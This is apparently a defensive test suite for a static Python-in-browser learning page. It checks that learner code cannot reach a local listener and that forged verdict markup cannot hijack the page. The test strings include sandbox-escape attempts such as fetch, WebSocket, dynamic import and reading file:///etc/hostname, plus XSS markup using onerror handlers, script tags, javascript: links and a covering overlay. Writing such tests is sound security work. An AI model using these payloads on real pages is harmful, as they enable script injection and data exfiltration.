"""Code a learner types into a static page (or its slide edition) gets neither out nor into the
page.

A small notebook (an exercise, its check, a live game) is built into a page and opened from
disk in headless Chromium, with a real server listening on 127.0.0.1 beside it that records
every connection (HTTP and WebSocket handshakes alike: a route-based offline test cannot see a
WebSocket). Each way out is tried from the exercise cell, as a learner would, and the page's
own policy is tried from the page and from inside its Python's worker; then the worker forges
its verdict with markup that would run script and cover the page. The server must hear
nothing, and the page must be as it was outside the verdict's place.
"""

from __future__ import annotations

import http.server
import re
import shutil
import threading
from pathlib import Path

import pytest

from linklab.site import build as site
from linklab.site import policy

EXERCISE = "prediction = ..."
CHECK = 'll.exercises.check("02.1", prediction)'


@pytest.fixture(scope="module")
def escape_site(tmp_path_factory):
    """The page of a notebook with one exercise and a live game, in both languages."""
    import nbformat

    if shutil.which("npm") is None:
        pytest.skip("node and npm are missing: the static site takes its scripts from npm")
    out = tmp_path_factory.mktemp("escape-site")
    nb = nbformat.v4.new_notebook()
    exercise = nbformat.v4.new_code_cell(EXERCISE)
    exercise.metadata["tags"] = ["exercise"]
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Escapes"),
        nbformat.v4.new_code_cell("import linklab as ll"),
        exercise,
        nbformat.v4.new_code_cell(CHECK),
        nbformat.v4.new_code_cell(
            "ll.widgets.GameWidget(ll.Board.from_rows([[1, 0, 1], [2, 0, 2]]), ll.Rules())"
        ),
    ]
    source = out / "source" / "51-escapes.ipynb"
    source.parent.mkdir()
    nbformat.write(nb, source)
    site.copy_assets(site.npm_install(), out)
    return out, {lang: site.build_page(source, lang, out).path for lang in ("en", "zh")}


def slides_of(page):
    """The slide edition written beside ``page`` (`linklab.site.slides`)."""
    return page.with_name(page.name.replace(".html", ".slides.html"))


class Listener(http.server.ThreadingHTTPServer):
    """A server on 127.0.0.1 that records every connection made to it, and each request's
    first line and ``Upgrade`` header (a WebSocket's handshake is such a request)."""

    daemon_threads = True

    def __init__(self) -> None:
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), _Recorder)

    def verify_request(self, request, client_address) -> bool:
        self.heard.append(f"connection from {client_address[0]}")
        return True

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"


class _Recorder(http.server.BaseHTTPRequestHandler):
    def parse_request(self) -> bool:
        parsed = super().parse_request()
        upgrade = self.headers.get("Upgrade", "") if parsed else ""
        heard = self.server.heard  # type: ignore[attr-defined]
        heard.append(f"{self.command} {self.path} {upgrade}".strip())
        return parsed

    def do_GET(self) -> None:
        body = b"document.title = 'escaped';"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_OPTIONS = do_GET

    def log_message(self, *args) -> None:  # the test reads `heard`, not stderr
        pass


@pytest.fixture
def listener():
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


#: Every way out tried from the exercise cell; each line says "reached" or why it was refused.
#: ``{http}`` and ``{ws}`` are the listener's addresses.
ATTEMPTS = {
    "fetch": "js.fetch('{http}/fetch')",
    "XMLHttpRequest": "x = js.XMLHttpRequest.new(); x.open('GET', '{http}/xhr'); x.send()",
    "WebSocket": "js.WebSocket.new('{ws}/websocket')",
    "WebSocketStream": "js.WebSocketStream.new('{ws}/websocketstream')",
    "EventSource": "js.EventSource.new('{http}/eventsource')",
    "import() by eval": "js.eval(\"import('{http}/import.js')\")",
    "import() of a file by eval": "js.eval(\"import('file:///etc/hostname')\")",
    "import() by a Function": "js.Math.max.constructor.new(\"return import('{http}/fn.js')\")()",
    "import() by setTimeout": "js.setTimeout(\"import('{http}/timeout.js')\", 0)",
    "caches": "js.caches.open('x').then(lambda c: c.add('{http}/caches'))",
    "importScripts": "js.importScripts('{http}/importscripts.js')",
    "Worker": "js.Worker.new('{http}/worker.js')",
    "FontFace": "js.FontFace.new('x', 'url({http}/font)').load()",
    "pyodide.http": "import pyodide.http; pyodide.http.open_url('{http}/open_url')",
    "indexedDB": "js.indexedDB.open('linklab-escape')",
}
ATTEMPTS_CELL = """import js
said = []
for name, code in {attempts!r}.items():
    try:
        exec(code, {{"js": js}})
        said.append(name + ": reached")
    except BaseException as error:
        said.append(name + ": refused (" + str(error).splitlines()[0][:60] + ")")
print("\\n".join(said))
prediction = 0
"""
#: Markup that would run script, restyle or cover the page, shadow a page's global by its id,
#: and load from the listener.
FORGED = (
    "<img src='x' onerror=\"window.escaped = 1; document.title = 'escaped'; "
    "fetch('{http}/onerror')\"><style>body {{ display: none }}</style>"
    '<script>window.escaped = 1</script><a href="javascript:window.escaped = 1">link</a>'
    "<div id='linklabPythonSeconds'>x</div><svg><use href='{http}/use#x'/>"
    "<image href='{http}/image'/><animate attributeName='x' to='1'/></svg>"
    "<div class='forged-cover' style='position: fixed; inset: 0; z-index: 9999; "
    "background: white url({http}/background)'>✓ Right</div>"
)
#: The worker posts a verdict of its own for every answer the page may be waiting for.
FORGE_CELL = """import js
from pyodide.ffi import to_js
for id in range(20):
    js.postMessage(to_js({{"kind": "verdict", "id": id, "status": "right\\' onclick=\\'x",
                          "html": {forged!r}}}, dict_converter=js.Object.fromEntries))
prediction = 0
"""
#: The check itself replaced by one whose answer shows the forged markup.
REPLACED_CHECK_CELL = """import linklab as ll
class Shown:
    status = "passed"
    def _repr_html_(self):
        return {forged!r}
ll.exercises.check = lambda *args: Shown()
prediction = 0
"""
#: Tried from the page itself, whose scripts are the page's own.
FROM_PAGE = """async (http) => {
  const said = [];
  const tries = {
    "fetch": () => fetch(http + "/page-fetch"),
    "WebSocket": () => new Promise((done, failed) => {
      const socket = new WebSocket(http.replace("http", "ws") + "/page-websocket");
      socket.onopen = done; socket.onerror = () => failed(new Error("refused"));
    }),
    "import()": () => import(http + "/page-import.js"),
    "script": () => new Promise((done, failed) => {
      const script = document.createElement("script");
      script.src = http + "/page-script.js"; script.onload = done;
      script.onerror = () => failed(new Error("refused"));
      document.head.append(script);
    }),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); said.push(name + ": reached"); }
    catch (error) { said.push(name + ": refused"); }
  }
  return said;
}"""
#: Tried inside a worker the page starts as it starts its Python's (from a Blob, under the
#: page's policy), with nothing closed by name: the policy alone.
FROM_WORKER = """async (http) => {
  const ws = http.replace("http", "ws");
  const source = `(async () => {
    const said = [];
    const tries = {
      "fetch": () => fetch("${http}/worker-fetch"),
      "WebSocketStream": () => new WebSocketStream("${ws}/worker-stream").opened,
      "import()": () => import("${http}/worker-import.js"),
      "import() of a file": () => import("file:///etc/hostname"),
      "eval": async () => eval("1"),
    };
    for (const [name, attempt] of Object.entries(tries)) {
      try { await attempt(); said.push(name + ": reached"); }
      catch (error) { said.push(name + ": refused"); }
    }
    postMessage(said);
  })();`;
  const worker = new Worker(URL.createObjectURL(new Blob([source], {type: "text/javascript"})));
  const said = await new Promise((done) => (worker.onmessage = (event) => done(event.data)));
  worker.terminate();
  return said;
}"""


#: What the forged markup holds that must not reach the page.
OUTSIDE_THE_ALLOW_LIST = (
    "img[src]:not([src^='data:image/']), style, script, a, use, image, animate, [id]"
)


#: Whether the check's button is what a click at its middle reaches (nothing drawn over it).
CHECK_ON_TOP = """() => {
  const b = document.querySelector('.linklab-python-check button.linklab-python-button');
  const r = b.getBoundingClientRect();
  const hit = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
  return hit !== null && hit.closest('button') !== null;
}"""

#: On the slides, the slide holding the exercise shown: the deck fitted (a slide too tall for the
#: screen is cut into vertical slides once its widgets are drawn), then turned to the check's.
SHOW_THE_CHECK = """async () => {
  if (!document.querySelector('.linklab-slides')) return;
  while (document.documentElement.dataset.linklabFitted !== 'yes') {
    await new Promise((done) => setTimeout(done, 100));
  }
  const deck = window.linklabDeck;
  const at = deck.getIndices(document.querySelector('.linklab-python-check').closest('section'));
  deck.slide(at.h, at.v);
}"""


def check_and_wait(page, source: str) -> str:
    """Type ``source`` into the exercise cell, press Check, wait for the verdict; its text."""
    page.evaluate(SHOW_THE_CHECK)
    page.locator("textarea.linklab-python-editor").fill(source)
    stamp = page.evaluate("window.linklabPythonLog.length")
    page.locator(".linklab-python-check button.linklab-python-button").click()
    page.wait_for_function(
        "(n) => window.linklabPythonLog.slice(n).some((e) => e.event === 'verdict')",
        arg=stamp,
        timeout=180_000,
        polling=100,
    )
    return page.locator(".linklab-python-verdict").inner_text()


def assert_policy_names_its_scripts(path: Path) -> None:
    """The page at ``path`` carries one policy, before its first script, naming each of its
    inline scripts and allowing no connection."""
    text = path.read_text(encoding="utf-8")
    assert text.count('http-equiv="Content-Security-Policy"') == 1, path
    said = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)[1]
    scripts = policy.inline_scripts(text)
    assert scripts and all(policy.script_digest(s) in said for s in scripts), path
    assert "connect-src 'none'" in said and "'unsafe-inline'" not in said.split("style-src")[0]
    assert "cdnjs" not in text, path
    assert text.index("Content-Security-Policy") < text.index("<script"), path


def test_every_page_carries_a_policy_naming_each_of_its_inline_scripts(escape_site):
    out, pages = escape_site
    slide_pages = [slides_of(path) for path in pages.values()]
    for path in [*pages.values(), *slide_pages, *site.write_app(out)]:
        assert_policy_names_its_scripts(path)


def test_the_app_pages_carry_a_policy_naming_each_of_their_inline_scripts(tmp_path):
    # The quick twin of the test above (``escape_site`` is built in ``make test`` only): the
    # app's pages are written without a kernel, and every page gets its policy from the same
    # `policy.with_policy` (its doctests).
    for path, language in zip(site.write_app(tmp_path), ("en", "zh-CN"), strict=True):
        assert_policy_names_its_scripts(path)
        assert f'<html lang="{language}"' in path.read_text(encoding="utf-8")[:200], path


@pytest.mark.browser
def test_a_server_hears_what_the_page_sends_with_its_policy_bypassed(
    escape_site, site_browser, listener
):
    """With the policy bypassed, the listener hears the page's fetch and WebSocket: the test
    below would see one that got out."""
    _, pages = escape_site
    context = site_browser.new_context(bypass_csp=True)
    try:
        page = context.new_page()
        page.goto(pages["en"].resolve().as_uri())
        said = page.evaluate(FROM_PAGE, f"http://{listener.address}")
    finally:
        context.close()
    assert "fetch: reached" in said and "WebSocket: refused" in said, said  # no handshake
    assert "GET /page-fetch" in listener.heard
    assert "GET /page-websocket websocket" in listener.heard


@pytest.mark.browser
@pytest.mark.parametrize(
    ("language", "viewport", "edition"),
    [
        ("en", {"width": 1280, "height": 900}, "page"),
        ("zh", {"width": 390, "height": 844}, "page"),
        ("en", {"width": 1280, "height": 720}, "slides"),
    ],
)
def test_learner_code_reaches_no_server_and_leaves_the_page_as_it_was(
    escape_site, site_browser, listener, language, viewport, edition
):
    _, pages = escape_site
    http, ws = f"http://{listener.address}", f"ws://{listener.address}"
    context = site_browser.new_context(viewport=viewport)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    path = pages[language] if edition == "page" else slides_of(pages[language])
    page.goto(path.resolve().as_uri())
    title = page.title()
    try:
        attempts = {name: code.format(http=http, ws=ws) for name, code in ATTEMPTS.items()}
        # the attempts import modules the page's Python does not hold (pyodide.http), which a
        # loaded machine may take longer than the exercise cell's limit for: this test is about
        # where its code reaches, not how soon
        page.evaluate("window.linklabCellGrace = 60")
        said = check_and_wait(page, ATTEMPTS_CELL.format(attempts=attempts))
        for name in ATTEMPTS:
            assert f"{name}: refused" in said, said

        forged = FORGED.format(http=http)
        for cell in (FORGE_CELL, REPLACED_CHECK_CELL):
            shown = check_and_wait(page, cell.format(forged=forged))
            verdict = page.locator(".linklab-python-verdict")
            assert verdict.get_attribute("data-status") in ("right", "wrong", "shown"), shown
            assert verdict.locator(OUTSIDE_THE_ALLOW_LIST).count() == 0
            assert page.locator("[onerror], [onclick], #linklabPythonSeconds").count() == 0
            # on the slides the verdict has a slide of its own, shown at once: back to the check's
            page.evaluate(SHOW_THE_CHECK)
            from playwright.sync_api import TimeoutError as PlaywrightTimeout

            try:
                page.wait_for_function(CHECK_ON_TOP, timeout=10_000, polling=100)
            except PlaywrightTimeout:
                raise AssertionError("the forged verdict covers the page") from None
            assert page.evaluate("getComputedStyle(document.body).display") != "none"

        assert page.evaluate(FROM_PAGE, http) == [
            "fetch: refused",
            "WebSocket: refused",
            "import(): refused",
            "script: refused",
        ]
        in_worker = page.evaluate(FROM_WORKER, http)
        assert in_worker[:3] == [
            "fetch: refused",
            "WebSocketStream: refused",
            "import(): refused",
        ], in_worker
        print("in a worker of the page:", in_worker)
        page.wait_for_timeout(1000)  # anything sent late arrives meanwhile
        assert page.title() == title
        assert page.evaluate("window.escaped") is None
    finally:
        context.close()
    assert listener.heard == []
    assert not [e for e in errors if "escaped" in e], errors


def test_a_chinese_page_says_it_is_chinese(escape_site):
    out, pages = escape_site
    for language, path in [*pages.items(), ("zh", site.write_app(out)[1])]:
        head = path.read_text(encoding="utf-8")[:200]
        assert f'<html lang="{"zh-CN" if language == "zh" else "en"}"' in head, (path, head)
